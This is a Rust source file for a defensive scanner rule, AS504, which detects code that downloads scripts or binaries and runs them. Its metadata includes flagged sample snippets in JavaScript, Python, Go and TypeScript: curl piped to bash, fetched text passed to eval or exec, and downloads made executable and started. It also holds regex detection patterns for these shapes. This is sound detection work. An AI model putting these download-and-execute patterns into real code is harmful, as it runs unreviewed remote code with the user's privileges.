//! `AS504` download-and-execute: fetching a script or binary and running it — `curl … |
//! sh` in a command, remote text handed to `eval`/`exec`, or a download written to disk,
//! made executable and started.

use std::sync::LazyLock;

use assay_core::{Confidence, Example, Family, Finding, RuleMeta, Severity};
use regex::Regex;

use crate::code_patterns::CodeText;
use crate::code_patterns::apis::{EVAL, EXEC, NETWORK};
use std::ops::Range;

use crate::code_patterns::apis::FILE_WRITE;
use crate::code_patterns::flow::{Assignment, Derived, assigned_before, mentions};
use crate::code_patterns::report::{Hit, OutsideProduction, emit};
use crate::registry::{FileContext, Rule};

/// The rule.
pub struct DownloadAndExecute;

static META: RuleMeta = RuleMeta {
    id: "AS504",
    name: "download-and-execute",
    title: "Downloads code and runs it",
    family: Family::Malicious,
    severity: Severity::Critical,
    cwe: &[494, 829],
    owasp_mcp: "MCP04:2025",
    cvss_vector: "CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:P/VC:H/VI:H/VA:N/SC:H/SI:H/SA:N",
    summary: "Finds code that runs what it downloads: shell commands piping `curl`/`wget` \
        into `sh`/`bash`/`python`/`node` or `bash -c \"$(curl …)\"` and PowerShell \
        `iex (iwr …)` passed to a process API; HTTP responses (`fetch`, `requests.get`, \
        `urlopen`, `http.Get`) reaching `eval`/`Function`/`exec`/`compile`, or a shell \
        interpreter, directly or through local variables; and a download followed, within \
        a few dozen lines, by `chmod +x`/`0755` and a process start; and a download saved \
        to a file (`urlretrieve(url, path)`, a response written or copied into a file) \
        that an interpreter or a process start then runs (`sh path`, `node path`). A \
        download checked against a hash or signature before it runs is reported at \
        medium severity.",
    why: "Whatever the remote host serves at run time is executed with the user's rights: \
        the package's reviewed content says nothing about it, and whoever controls the \
        URL (or the network path) controls the machine.",
    remediation: "Ship the code in the package, or install tools through a package manager \
        with pinned versions. If a binary must be downloaded, pin its version and verify \
        a SHA-256 digest or signature shipped in the package before running it.",
    references: &[
        "https://attack.mitre.org/techniques/T1105/",
        "https://cwe.mitre.org/data/definitions/494.html",
    ],
    examples: &[
        Example::flags(
            "src/setup.js",
            "const { execSync } = require(\"child_process\");\n\nexecSync(\"curl -fsSL https://get.example.dev/install.sh | bash\", { stdio: \"inherit\" });\n",
        ),
        Example::flags(
            "server.py",
            "import requests\n\n\ndef bootstrap():\n    code = requests.get(\"https://cdn.example.net/plugin.py\", timeout=5).text\n    exec(code)\n",
        ),
        Example::flags(
            "main.go",
            "package main\n\nimport (\n\t\"io\"\n\t\"net/http\"\n\t\"os\"\n\t\"os/exec\"\n)\n\nfunc update() error {\n\tresp, err := http.Get(\"https://releases.example.com/agent-linux-amd64\")\n\tif err != nil {\n\t\treturn err\n\t}\n\tdefer resp.Body.Close()\n\tf, _ := os.Create(\"/tmp/agent\")\n\tio.Copy(f, resp.Body)\n\tf.Close()\n\tos.Chmod(\"/tmp/agent\", 0o755)\n\treturn exec.Command(\"/tmp/agent\").Start()\n}\n",
        ),
        Example::flags(
            "lib/loader.ts",
            "export async function load(url: string) {\n  const res = await fetch(url);\n  const src = await res.text();\n  return eval(src);\n}\n",
        ),
        Example::flags(
            "installer.py",
            "import subprocess\nimport urllib.request\n\n\ndef install() -> None:\n    script = \"/tmp/setup.sh\"\n    urllib.request.urlretrieve(\"https://get.example.dev/setup.sh\", script)\n    subprocess.run([\"sh\", script], check=True)\n",
        ),
        Example::allows(
            "src/tools.js",
            "const { execFile } = require(\"child_process\");\n\nasync function status() {\n  const res = await fetch(\"https://status.example.com/api\");\n  const data = await res.json();\n  execFile(\"git\", [\"status\"]);\n  return data;\n}\n",
        ),
        Example::allows(
            "server.py",
            "import subprocess\n\nimport requests\n\n\ndef get_readme(url: str) -> str:\n    return requests.get(url, timeout=5).text\n\n\ndef run_tests() -> int:\n    return subprocess.run([\"pytest\", \"-q\"]).returncode\n",
        ),
        Example::allows(
            "docs.go",
            "package main\n\n// Install: curl -fsSL https://example.com/install.sh | sh\nconst help = \"see the README for installation\"\n\nfunc main() { println(help) }\n",
        ),
    ],
};

/// Words without which this rule cannot fire: the driver calls it only on files that
/// contain one.
const KEYWORDS: &[&str] = &[
    "curl",
    "wget",
    "iwr",
    "Invoke-WebRequest",
    "DownloadString",
    "fetch",
    "requests.",
    "httpx.",
    "urlopen",
    "urlretrieve",
    "http.Get",
    "axios",
    "https.get",
    "http.get",
    "got(",
];

/// Shell one-liners that run what they download.
static PIPE_TO_SHELL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?i)\b(?:curl|wget)\b[^|;&\n]{0,300}\|\s*(?:sudo\s+(?:-\w+\s+)*)?(?:ba|z|da|k)?sh\b|\b(?:curl|wget)\b[^|;&\n]{0,300}\|\s*(?:sudo\s+)?(?:python3?|node|perl|ruby)\b|\b(?:ba|z)?sh\s+-c\s+\\?['\x22]?\$\(\s*(?:curl|wget)\b|\biex\b[^\n]{0,200}(?:DownloadString|\biwr\b|Invoke-WebRequest)|(?:DownloadString|\biwr\b|Invoke-WebRequest)[^\n]{0,200}\|\s*iex\b",
    )
    .expect("valid regex")
});

/// Making a file executable.
static CHMOD_EXEC: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\bchmod\w*\s*\([^)]*(?:0o?[75][0-7]{2}\b|\b493\b|\b0?755\b|S_IX|S_IEXEC|\+x)|\bchmod\s+(?:[ugoa]*\+x|[75][0-7]{2})\b|\bos\.Chmod\([^)]*0o?7[0-7]{2}")
        .expect("valid regex")
});

/// Integrity checks that make a download trustworthy.
static INTEGRITY: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)sha256|sha512|createHash|hashlib|checksum|digest|signature|\bgpg\b|cosign|minisign|verify")
        .expect("valid regex")
});

/// Interpreters that run text handed to them.
static INTERPRETER: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"['"](?:/bin/|/usr/bin/)?(?:ba|z|da)?sh['"]|['"](?:python3?|node|perl|ruby|powershell|pwsh|cmd(?:\.exe)?)['"]|shell\s*[:=]\s*(?:true|True)"#)
        .expect("valid regex")
});

/// Lines between a download and the start of what it fetched.
const STAGE_LINES: usize = 40;

/// APIs that save a download straight to a path given as their second argument
/// (`urlretrieve(url, path)`, `wget.download(url, out)`).
static SAVE_TO_PATH: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\b(?:urlretrieve|wget\.download)\b").expect("valid regex"));

/// Calls copying data into a writer: the writer is the receiver (`f.write(data)`), the
/// first argument (`io.Copy(f, body)`) or the last (`shutil.copyfileobj(src, f)`,
/// `body.pipe(f)`, `pipeline(body, f)`).
static WRITER_CALL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"\.(?:write|write_bytes|write_text)\b|\b(?:io\.Copy(?:N|Buffer)?|(?:shutil\.)?copyfileobj|pipeline)\b|\.pipe\b")
        .expect("valid regex")
});

/// Where downloaded bytes were saved: the names and literal paths of the file.
#[derive(Default)]
struct SavedDownload {
    /// Where the saving call starts.
    at: usize,
    /// Variables holding the file or its path (`f`, `script`).
    names: Vec<String>,
    /// Literal paths (`/tmp/install.sh`).
    literals: Vec<String>,
}

impl SavedDownload {
    /// Adds `range` (an expression naming the file) and, when it is a variable opened or
    /// created from a path (`f = open(path, "wb")`, `f, _ := os.Create(p)`), that path.
    fn add(&mut self, code: &CodeText<'_>, assigns: &[Assignment], range: Range<usize>) {
        let range = code.trimmed(range);
        if let Some(body) = code.literal(range.clone()) {
            if !body.is_empty() {
                self.literals.push(body.to_string());
            }
            return;
        }
        let text = &code.code[range.clone()];
        let Some(name) = PLAIN_NAME.find(text).filter(|m| m.start() == 0) else {
            return;
        };
        let name = name.as_str();
        if let Some(a) =
            assigned_before(assigns, range.start).find(|a| a.names.iter().any(|n| n == name))
        {
            let rhs = &code.code[a.rhs.clone()];
            if let Some(open) = FILE_OPEN.find(rhs)
                && let Some(args) = code.call_args(a.rhs.start + open.end())
                && let Some(first) = code.split_top_level(args).into_iter().next()
                && self.names.len() + self.literals.len() < 8
            {
                self.add(code, assigns, first);
            }
        }
        self.names.push(name.to_string());
    }

    /// True when `range` names the saved file.
    fn named_in(&self, code: &CodeText<'_>, range: Range<usize>) -> bool {
        let text = &code.code[range.clone()];
        self.names.iter().any(|n| mentions(text, n))
            || code.strings_in(range).any(|s| {
                self.literals
                    .iter()
                    .any(|l| l == code.string_body(s.clone()))
            })
    }
}

/// A variable, possibly a field (`f`, `self.path`).
static PLAIN_NAME: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"[A-Za-z_$][\w$]*(?:\.[A-Za-z_$][\w$]*)*").expect("valid regex"));

/// Calls opening or creating a file for writing, whose first argument is its path.
static FILE_OPEN: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"\b(?:open|createWriteStream|os\.(?:Create|CreateTemp|OpenFile)|NamedTemporaryFile)\b",
    )
    .expect("valid regex")
});

impl Rule for DownloadAndExecute {
    fn meta(&self) -> &'static RuleMeta {
        &META
    }

    fn keywords(&self) -> Vec<&'static str> {
        KEYWORDS.to_vec()
    }

    fn check_file(&self, file: &FileContext<'_>, out: &mut Vec<Finding>) {
        let Some(code) = file.code() else {
            return;
        };
        let mut hits = Vec::new();
        let exec_calls: Vec<_> = EXEC.calls(code).collect();
        let eval_calls: Vec<_> = EVAL.calls(code).collect();
        if exec_calls.is_empty() && eval_calls.is_empty() {
            return;
        }
        // 1. `curl … | sh` handed to a process API.
        for call in &exec_calls {
            for s in code.strings_in(call.args.clone()) {
                if let Some(m) = PIPE_TO_SHELL.find(code.string_body(s.clone())) {
                    hits.push(Hit::new(&META, call.callee.start, call.args.end + 1, format!("runs the shell pipeline `{}`, which executes whatever the server returns", m.as_str())));
                }
            }
        }
        // 2. Remote text reaching code evaluation or a shell interpreter.
        let assigns = code.assignments();
        let remote =
            Derived::compute_in(code, assigns, |rhs| NETWORK.in_code(code, rhs), |_| false);
        for call in eval_calls {
            let args = call.args.clone();
            let via = if NETWORK.in_code(code, args.clone()) {
                Some("an HTTP response".to_string())
            } else {
                remote
                    .mentioned(code, args.clone())
                    .map(|v| format!("`{v}`, downloaded"))
            };
            if let Some(via) = via {
                hits.push(Hit::new(
                    &META,
                    call.callee.start,
                    args.end + 1,
                    format!("`{}` evaluates {via}", &code.code[call.callee.clone()]),
                ));
            }
        }
        for call in &exec_calls {
            let args = call.args.clone();
            if let Some(v) = remote.mentioned(code, args.clone())
                && INTERPRETER.is_match(&code.code[args.clone()])
            {
                hits.push(Hit::new(
                    &META,
                    call.callee.start,
                    args.end + 1,
                    format!("a shell or interpreter runs `{v}`, which was downloaded"),
                ));
            }
        }
        // 3. Download, chmod +x, start.
        for call in NETWORK.calls(code) {
            let window = call.callee.start..code.lines_after(call.callee.start, STAGE_LINES);
            let Some(chmod) = CHMOD_EXEC.find(&code.code[window.clone()]) else {
                continue;
            };
            let chmod_at = window.start + chmod.start();
            let Some(start) = exec_calls
                .iter()
                .find(|c| c.callee.start > chmod_at && c.callee.start < window.end)
            else {
                continue;
            };
            let span = call.callee.start..start.args.end + 1;
            let hit = Hit::new(
                &META,
                start.callee.start,
                start.args.end + 1,
                "a downloaded file is made executable and started",
            );
            hits.push(if INTEGRITY.is_match(&code.code[span]) {
                Hit {
                    message: "a downloaded file is made executable and started (after an integrity check)".to_string(),
                    ..hit.severity(Severity::Medium).confidence(Confidence::Medium)
                }
            } else {
                hit.severity(Severity::High)
            });
        }
        // 4. A download saved to a file, then that file run by an interpreter or as the
        // program.
        for saved in saved_downloads(code, assigns, &remote) {
            let window_end = code.lines_after(saved.at, STAGE_LINES);
            let Some(run) = exec_calls.iter().find(|c| {
                c.callee.start > saved.at
                    && c.callee.start < window_end
                    && runs_saved(code, c.args.clone(), &saved)
            }) else {
                continue;
            };
            let hit = Hit::new(
                &META,
                run.callee.start,
                run.args.end + 1,
                "a downloaded file is saved and then run",
            );
            hits.push(
                if INTEGRITY.is_match(&code.code[saved.at..run.callee.start]) {
                    Hit {
                        message:
                            "a downloaded file is saved and then run (after an integrity check)"
                                .to_string(),
                        ..hit
                            .severity(Severity::Medium)
                            .confidence(Confidence::Medium)
                    }
                } else {
                    hit.severity(Severity::High)
                },
            );
        }
        emit(&META, file, hits, OutsideProduction::OneStepLower, out);
    }
}

/// Every place downloaded bytes are written to a file: a save-to-path download API, a
/// file write whose data is a response, or a writer fed from one.
fn saved_downloads(
    code: &CodeText<'_>,
    assigns: &[Assignment],
    remote: &Derived,
) -> Vec<SavedDownload> {
    let text = code.code.as_str();
    let is_remote = |range: Range<usize>| {
        remote.mentioned(code, range.clone()).is_some() || NETWORK.in_code(code, range)
    };
    let mut saved = Vec::new();
    for m in SAVE_TO_PATH.find_iter(text) {
        if code.in_string(m.start()) {
            continue;
        }
        let Some(args) = code.call_args(m.end()) else {
            continue;
        };
        let mut download = SavedDownload {
            at: m.start(),
            ..SavedDownload::default()
        };
        for part in code.split_top_level(args).into_iter().skip(1).take(1) {
            let value = code.entry(part.clone(), "out").unwrap_or(part);
            download.add(code, assigns, value);
        }
        saved.push(download);
    }
    for call in FILE_WRITE.calls(code) {
        let parts = code.split_top_level(call.args.clone());
        if parts.len() < 2 || !parts[1..].iter().any(|p| is_remote(p.clone())) {
            continue;
        }
        let mut download = SavedDownload {
            at: call.callee.start,
            ..SavedDownload::default()
        };
        download.add(code, assigns, parts[0].clone());
        saved.push(download);
    }
    for m in WRITER_CALL.find_iter(text) {
        if code.in_string(m.start()) {
            continue;
        }
        let Some(args) = code.call_args(m.end()) else {
            continue;
        };
        let parts = code.split_top_level(args.clone());
        let method = m.as_str().starts_with('.');
        let receiver = method.then(|| code.receiver(m.start())).flatten();
        let (writer, data) = match (m.as_str(), parts.as_slice()) {
            (".pipe", [dst, ..]) => (Some(dst.clone()), receiver),
            (name, [_, .., dst]) if name.ends_with("copyfileobj") || name == "pipeline" => {
                (Some(dst.clone()), Some(args.start..dst.start))
            }
            (name, [dst, src, ..]) if name.starts_with("io.") => {
                (Some(dst.clone()), Some(src.clone()))
            }
            (_, [_, ..]) if method => (receiver, Some(args.clone())),
            _ => (None, None),
        };
        let (Some(writer), Some(data)) = (writer, data) else {
            continue;
        };
        if !is_remote(data) {
            continue;
        }
        let mut download = SavedDownload {
            at: m.start(),
            ..SavedDownload::default()
        };
        download.add(code, assigns, writer);
        saved.push(download);
    }
    saved.retain(|d| !d.names.is_empty() || !d.literals.is_empty());
    saved
}

/// True when a process call with arguments `args` runs the saved file: an interpreter
/// is given it, or it is the program itself.
fn runs_saved(code: &CodeText<'_>, args: Range<usize>, saved: &SavedDownload) -> bool {
    if !saved.named_in(code, args.clone()) {
        return false;
    }
    if INTERPRETER.is_match(&code.code[args.clone()]) {
        return true;
    }
    let Some(first) = code.split_top_level(args).into_iter().next() else {
        return false;
    };
    // `[path, ...]` or `(path, ...)`: the program is the first element.
    let first = match code.code.as_bytes().get(first.start) {
        Some(b'[' | b'(') => code
            .split_top_level(code.group_inner(first.start))
            .into_iter()
            .next()
            .unwrap_or(first),
        _ => first,
    };
    saved.named_in(code, first)
}
